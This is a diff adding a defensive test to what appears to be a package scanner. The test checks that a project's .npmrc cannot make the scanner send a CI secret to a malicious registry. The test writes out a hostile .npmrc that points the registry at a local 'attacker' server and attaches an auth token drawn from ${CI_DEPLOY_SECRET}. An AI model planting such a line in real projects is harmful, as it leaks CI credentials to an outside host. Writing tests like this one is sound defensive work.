@@ -157,3 +157,17 @@ def test_naming_a_target_twice_scans_it_once(tmp_path):
     tgz = pack(BEACON, tmp_path / "beacon.tgz")
     data = report(run("scan", str(tgz), str(tgz), "-f", "json"))
     assert len(data["packages"]) == 1
+
+
+def test_a_projects_npmrc_cannot_send_a_ci_secret_to_its_registry(tmp_path, monkeypatch):
+    monkeypatch.setenv("CI_DEPLOY_SECRET", "s3cr3t-value-never-sent")
+    with LocalServer() as attacker:
+        data = build_tarball({"package.json": '{"name": "bait", "version": "1.0.0"}'})
+        _publish(attacker, "bait", {"1.0.0": data})
+        host = attacker.url.removeprefix("http:")
+        (tmp_path / ".npmrc").write_text(f"registry={attacker.url}\n{host}:_authToken=${{CI_DEPLOY_SECRET}}\n")
+        result = run("scan", "bait@1.0.0", "--project", str(tmp_path), "-f", "json")
+        assert result.exit_code == 0, result.output
+        assert all("Authorization" not in seen.headers for seen in attacker.seen)
+        assert "s3cr3t-value-never-sent" not in result.output
+        assert any("CI_DEPLOY_SECRET" in n and "not sent" in n for n in report(result)["notes"])
